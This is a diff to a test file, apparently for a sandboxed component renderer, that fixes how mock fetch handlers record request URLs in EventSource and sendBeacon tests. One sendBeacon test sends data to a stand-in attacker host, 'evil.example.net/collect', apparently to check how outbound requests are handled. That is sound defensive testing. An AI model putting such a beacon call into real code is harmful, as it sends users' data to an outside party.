@@ -111,7 +111,7 @@ describe('EventSource', () => {
     const view = render(CARD, {
       manifest: API,
       fetch: async (input) => (
-        asked.push(String(input)),
+        asked.push(input instanceof Request ? input.url : String(input)),
         new Response('data: hello\n\nevent: price\ndata: 42\n\n', { headers: { 'content-type': 'text/event-stream' } })
       ),
     });
@@ -132,7 +132,10 @@ describe('navigator.sendBeacon', () => {
     const sent: Array<[string, RequestInit | undefined]> = [];
     const view = render(CARD, {
       manifest: API,
-      fetch: async (input, init) => (sent.push([String(input), init]), new Response(null, { status: 204 })),
+      fetch: async (input, init) => (
+        sent.push([input instanceof Request ? input.url : String(input), init]),
+        new Response(null, { status: 204 })
+      ),
     });
     expect(reach.beacon('https://evil.example.net/collect', 'x')).toBe(true);
     expect(reach.beacon('/collect', 'x')).toBe(true);
